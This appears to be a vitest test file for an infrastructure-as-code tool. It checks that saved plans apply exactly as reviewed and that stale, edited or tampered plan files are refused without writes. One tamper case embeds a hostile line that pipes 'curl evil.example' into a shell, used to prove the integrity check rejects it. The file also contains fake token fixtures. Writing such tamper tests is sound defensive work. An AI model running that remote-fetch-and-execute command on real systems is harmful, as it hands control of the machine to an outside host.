/**
 * Saved plans: `plan --out FILE` then `apply --plan FILE` executes exactly the reviewed plan, and
 * refuses (writing nothing) when the repository or an object the plan touches changed since.
 */
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { applyCommand, planCommand } from "../../../src/reconcile/commands";
import type { CommandResult } from "../../../src/reconcile/commands/command-types";
import { useEmulator, type EmulatorFixture } from "../../helpers/emulator";
import { commandOptions, copyRepo, FIXTURE_SECRETS, outputsFileOf, platformView } from "../../helpers/repo";
import { countingRequests, readValidSavedPlan } from "../../helpers/saved-plan";

const messageOf = (r: CommandResult) => ("message" in r ? (r.message ?? "") : "");
const actionsOf = (r: CommandResult) =>
  r.command === "plan" || r.command === "apply" ? (r.plan?.actions ?? []).map((a) => `${a.action} ${a.address}`) : [];

/** An applied valid-full repository with a code change to the loader UDF and a new dashboard for listings. */
async function editedRepo(fx: EmulatorFixture): Promise<string> {
  const dir = copyRepo("valid-full");
  expect((await applyCommand(commandOptions(dir, fx.emu))).exitCode).toBe(0);
  writeFileSync(
    join(dir, "canvases/listings/loader.py"),
    "@fused.udf\ndef udf(limit: int = 5):\n    return limit * 2\n",
  );
  const canvas = join(dir, "canvases/listings/canvas.yaml");
  writeFileSync(
    canvas,
    readFileSync(canvas, "utf8").replace(
      'dashboard_body: "Listings in ${var.city}"',
      'dashboard_body: "Listings of ${var.city}"',
    ),
  );
  return dir;
}

async function savePlan(fx: EmulatorFixture, dir: string, file = join(dir, "plan.json")) {
  const r = await planCommand(commandOptions(dir, fx.emu, { planOut: file }));
  expect(r.exitCode, messageOf(r)).toBe(0);
  return { file, saved: readValidSavedPlan(file), planned: r };
}

const udfByslug = async (fx: EmulatorFixture, slug: string) =>
  (await platformView(fx.user)).udfs.find((u) => u.slug === slug)!;
const canvasByName = async (fx: EmulatorFixture, name: string) =>
  (await platformView(fx.user)).canvases.find((c) => c.name === name)!;

describe("GIVEN a plan saved with plan --out", () => {
  const fx = useEmulator();
  let dir: string;
  let file: string;

  beforeAll(async () => {
    dir = await editedRepo(fx);
    file = (await savePlan(fx, dir)).file;
  });

  it("THEN the file is a versioned artifact: actions, the repository digest and what each action was planned against, no secret", () => {
    const saved = readValidSavedPlan(file);
    expect(saved.format_version).toBe(2);
    expect(saved.integrity).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(saved.plan.actions.map((a) => `${a.action} ${a.address}`)).toEqual([
      "update canvas.listings",
      "update udf.listings/loader",
    ]);
    expect(saved.repository.digest).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(Object.keys(saved.repository.files)).toContain("canvases/listings/loader.py");
    expect(saved.repository.excluded).toContain("plan.json");
    expect(Object.keys(saved.observed).sort()).toEqual(["canvas.listings", "udf.listings/loader"]);
    expect(saved.observed["udf.listings/loader"]!.state).toMatch(/^sha256:/);
    const text = readFileSync(file, "utf8");
    for (const secret of Object.values(FIXTURE_SECRETS)) expect(text).not.toContain(secret);
  });

  it("WHEN applied THEN exactly its actions run, and the next plan is empty", async () => {
    const r = await applyCommand(commandOptions(dir, fx.emu, { planFile: file }));
    expect(r.exitCode, messageOf(r)).toBe(0);
    if (r.command !== "apply") throw new Error("apply expected");
    expect(r.report!.results.map((x) => `${x.action} ${x.address} ${x.status}`)).toEqual([
      "update canvas.listings done",
      "update udf.listings/loader done",
    ]);
    expect((await canvasByName(fx, "listings")).dashboard_body).toBe("Listings of nyc");
    const after = await planCommand(commandOptions(dir, fx.emu));
    expect(actionsOf(after)).toEqual([]);
  });

  it("WHEN applied a second time THEN it is stale: its objects changed since (by its own apply)", async () => {
    const { result: r, writes } = await countingRequests(() =>
      applyCommand(commandOptions(dir, fx.emu, { planFile: file })),
    );
    expect(r.exitCode).toBe(1);
    expect(messageOf(r)).toContain("Saved plan is stale");
    expect(writes).toBe(0);
  });
});

describe("GIVEN a saved plan and a hand change, on the platform, to an object it updates", () => {
  const fx = useEmulator();
  let dir: string;
  let file: string;
  let loaderId: string;

  beforeAll(async () => {
    dir = await editedRepo(fx);
    file = (await savePlan(fx, dir)).file;
    const loader = await udfByslug(fx, "loader");
    loaderId = loader.id;
    await fx.user.udfs.update(loader.id, { udf_body: loader.udf_body.replace("return", "return  ") });
  });

  it("WHEN applied THEN apply refuses with exit 1, names the changed object, and sends no write", async () => {
    const before = (await udfByslug(fx, "loader")).udf_body;
    const { result: r, writes } = await countingRequests(() =>
      applyCommand(commandOptions(dir, fx.emu, { planFile: file })),
    );
    expect(r.exitCode).toBe(1);
    expect(messageOf(r)).toMatch(/^Saved plan is stale: /);
    expect(messageOf(r)).toContain(`udf.listings/loader: it (id ${loaderId}) changed on the platform since the plan.`);
    expect(messageOf(r)).not.toContain("canvas.listings:");
    expect(writes).toBe(0);
    expect((await udfByslug(fx, "loader")).udf_body).toBe(before);
    expect((await canvasByName(fx, "listings")).dashboard_body).toBe("Listings in nyc");
  });

  it("WHEN planned again and that plan applied THEN it succeeds", async () => {
    const again = await savePlan(fx, dir);
    const r = await applyCommand(commandOptions(dir, fx.emu, { planFile: again.file }));
    expect(r.exitCode, messageOf(r)).toBe(0);
    expect(actionsOf(await planCommand(commandOptions(dir, fx.emu)))).toEqual([]);
  });
});

describe("GIVEN a saved plan and a hand change to an object it does not touch", () => {
  const fx = useEmulator();
  let dir: string;
  let file: string;

  beforeAll(async () => {
    dir = await editedRepo(fx);
    file = (await savePlan(fx, dir)).file;
    const reports = await canvasByName(fx, "reports");
    await fx.user.canvases.update(reports.id, { name: "reports", dashboard_body: "edited by hand" });
  });

  it("WHEN applied THEN the plan runs, and the untouched object keeps the hand change", async () => {
    const r = await applyCommand(commandOptions(dir, fx.emu, { planFile: file }));
    expect(r.exitCode, messageOf(r)).toBe(0);
    if (r.command !== "apply") throw new Error("apply expected");
    expect(r.report!.results.map((x) => x.address)).toEqual(["canvas.listings", "udf.listings/loader"]);
    expect((await canvasByName(fx, "reports")).dashboard_body).toBe("edited by hand");
    expect(actionsOf(await planCommand(commandOptions(dir, fx.emu)))).toEqual(["update canvas.reports"]);
  });
});

describe("GIVEN a saved plan and an edit of the repository after it", () => {
  const fx = useEmulator();
  let dir: string;
  let file: string;

  beforeAll(async () => {
    dir = await editedRepo(fx);
    file = (await savePlan(fx, dir, join(dir, "..", "reviewed-plan.json"))).file;
    writeFileSync(join(dir, "canvases/reports/weekly.py"), '@fused.udf\ndef udf():\n    return "weekly, edited"\n');
  });

  it("WHEN applied THEN apply refuses, naming the file that changed, and sends no write", async () => {
    const { result: r, writes } = await countingRequests(() =>
      applyCommand(commandOptions(dir, fx.emu, { planFile: file })),
    );
    expect(r.exitCode).toBe(1);
    expect(messageOf(r)).toContain("Saved plan is stale");
    expect(messageOf(r)).toContain("The repository changed since the plan: canvases/reports/weekly.py (changed).");
    expect(writes).toBe(0);
  });

  it("WHEN the file is not a saved plan or has another format_version THEN apply says so and changes nothing", async () => {
    const other = join(dir, "..", "other.json");
    writeFileSync(other, JSON.stringify({ ...JSON.parse(readFileSync(file, "utf8")), format_version: 7 }));
    const r = await applyCommand(commandOptions(dir, fx.emu, { planFile: other }));
    expect(r.exitCode).toBe(1);
    expect(messageOf(r)).toBe(
      `${other} has format_version 7; this svc-iac reads format_version 2. Plan again with this version.`,
    );
    writeFileSync(other, "{}");
    expect(messageOf(await applyCommand(commandOptions(dir, fx.emu, { planFile: other })))).toContain(
      "is not a svc-iac saved plan: format_version is missing",
    );
  });
});

describe("GIVEN a saved plan edited by hand after it was reviewed", () => {
  const fx = useEmulator();
  let dir: string;
  let file: string;
  let text: string;

  beforeAll(async () => {
    dir = await editedRepo(fx);
    file = (await savePlan(fx, dir)).file;
    text = readFileSync(file, "utf8");
  });

  /** Applies `edited` (a copy of the reviewed plan with `edit` made to it), counting writes. */
  async function applyEdited(edit: (doc: Record<string, any>) => void) {
    const doc = JSON.parse(text);
    edit(doc);
    const edited = join(dir, "..", `edited-${Math.random().toString(36).slice(2)}.json`);
    writeFileSync(edited, JSON.stringify(doc, null, 2));
    const before = await platformView(fx.user);
    const { result, writes } = await countingRequests(() =>
      applyCommand(commandOptions(dir, fx.emu, { planFile: edited })),
    );
    return { result, writes, edited, before, after: await platformView(fx.user) };
  }

  it.each<[string, (doc: Record<string, any>) => void]>([
    [
      "its stored options (prune and allow_cascade turned on, a lower max_deletions)",
      (doc) => Object.assign(doc.options, { prune: true, allow_cascade: true, max_deletions: 0 }),
    ],
    [
      "an action (the loader's new code swapped for other code)",
      (doc) => {
        const loader = doc.plan.actions.find((a: { address: string }) => a.address === "udf.listings/loader");
        loader.fields = loader.fields.map((c: Record<string, unknown>) =>
          typeof c.to === "string" ? { ...c, to: "import os\nos.system('curl evil.example | sh')\n" } : c,
        );
        expect(JSON.stringify(loader)).toContain("evil.example");
      },
    ],
    ["the list of actions (one action dropped)", (doc) => doc.plan.actions.pop()],
    ["its integrity digest alone", (doc) => (doc.integrity = `sha256:${"0".repeat(64)}`)],
  ])(
    "WHEN %s was edited and the plan applied THEN apply refuses with exit 1 naming the integrity check, and writes nothing",
    async (_what, edit) => {
      const r = await applyEdited(edit);
      expect(r.result.exitCode).toBe(1);
      expect(messageOf(r.result)).toMatch(
        new RegExp(
          `^${r.edited.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")} was changed after svc-iac plan wrote it: its content \\(the plan's actions, its options or what it was planned against\\) no longer matches its integrity digest sha256:[0-9a-f]{12}…, so nothing was applied\\.`,
        ),
      );
      expect(messageOf(r.result)).toContain(`run svc-iac plan --out ${r.edited} again, review it, and apply that.`);
      expect(r.writes).toBe(0);
      expect(r.after).toEqual(r.before);
      for (const secret of Object.values(FIXTURE_SECRETS)) expect(messageOf(r.result)).not.toContain(secret);
    },
  );

  it("WHEN the integrity field is removed THEN it is not a saved plan this version applies", async () => {
    const r = await applyEdited((doc) => delete doc.integrity);
    expect(messageOf(r.result)).toContain("is not a svc-iac saved plan: integrity is missing");
    expect(r.writes).toBe(0);
  });

  it("WHEN the unedited plan is applied with options of its own (prune, allow_cascade) THEN each difference is reported, in the log and the plan's warnings, and the saved plan's options are the ones applied", async () => {
    const logged: string[] = [];
    const r = await applyCommand(
      commandOptions(dir, fx.emu, {
        planFile: file,
        prune: true,
        allowCascade: true,
        log: (line) => logged.push(line),
      }),
    );
    expect(r.exitCode, messageOf(r)).toBe(0);
    const expected = [
      "The saved plan was made with prune: false; this apply was asked for prune: true. It applies the saved plan's prune: false.",
      "The saved plan was made with allow_cascade: false; this apply was asked for allow_cascade: true. It applies the saved plan's allow_cascade: false.",
    ];
    expect(logged.filter((l) => l.startsWith("The saved plan was made with"))).toEqual(expected);
    if (r.command !== "apply") throw new Error("apply expected");
    expect(r.plan!.warnings).toEqual(expect.arrayContaining(expected));
    expect(r.report!.results.map((x) => `${x.action} ${x.address}`)).toEqual([
      "update canvas.listings",
      "update udf.listings/loader",
    ]);
  });
});

describe("GIVEN --plan naming a file that is not JSON, such as a file of tokens", () => {
  const fx = useEmulator();

  it("WHEN applied THEN apply refuses saying where the JSON stops, and quotes none of the file", async () => {
    const dir = copyRepo("valid-full");
    const tokenFile = join(dir, "..", "token.txt");
    writeFileSync(tokenFile, "svc_live_tok_5ecret_9f8e7d6c\n");
    const broken = join(dir, "..", "broken.json");
    writeFileSync(broken, '{"format_version": 2,, "token": "svc_live_tok_5ecret_9f8e7d6c"}');
    for (const [file, says] of [
      [tokenFile, "it is cut short or starts with something else"],
      [broken, "it stops being JSON at character 21"],
    ] as const) {
      const { result: r, writes } = await countingRequests(() =>
        applyCommand(commandOptions(dir, fx.emu, { planFile: file })),
      );
      expect(r.exitCode).toBe(1);
      expect(messageOf(r)).toContain(
        `${file} is not a svc-iac saved plan: it is not JSON (${says}; its content is not shown).`,
      );
      expect(messageOf(r)).not.toContain("5ecret");
      expect(writes).toBe(0);
    }
  });
});

describe("GIVEN a first plan that creates service accounts, saved without --outputs", () => {
  const fx = useEmulator();
  let dir: string;
  let file: string;

  beforeAll(async () => {
    dir = copyRepo("valid-full");
    file = join(dir, "plan.json");
    const r = await planCommand(commandOptions(dir, fx.emu, { planOut: file, outputs: undefined }));
    expect(r.exitCode, messageOf(r)).toBe(0);
  });

  it("WHEN applied with --outputs THEN the tokens go there and the plan runs, as the usage promises", async () => {
    const r = await applyCommand(commandOptions(dir, fx.emu, { planFile: file }));
    expect(r.exitCode, messageOf(r)).toBe(0);
    expect(readFileSync(outputsFileOf(dir), "utf8")).toContain("listings-deployer");
  });
});

describe("GIVEN a saved plan that creates service accounts, applied without --outputs", () => {
  const fx = useEmulator();

  it("WHEN applied THEN it stops once, saying to give --outputs, and creates nothing", async () => {
    const dir = copyRepo("valid-full");
    const file = join(dir, "plan.json");
    expect((await planCommand(commandOptions(dir, fx.emu, { planOut: file, outputs: undefined }))).exitCode).toBe(0);
    const r = await applyCommand(commandOptions(dir, fx.emu, { planFile: file, outputs: undefined }));
    expect(r.exitCode).toBe(1);
    expect(messageOf(r).match(/Run with --outputs FILE/g)).toHaveLength(1);
    expect((await platformView(fx.user)).canvases.map((c) => c.name)).not.toContain("listings");
  });
});
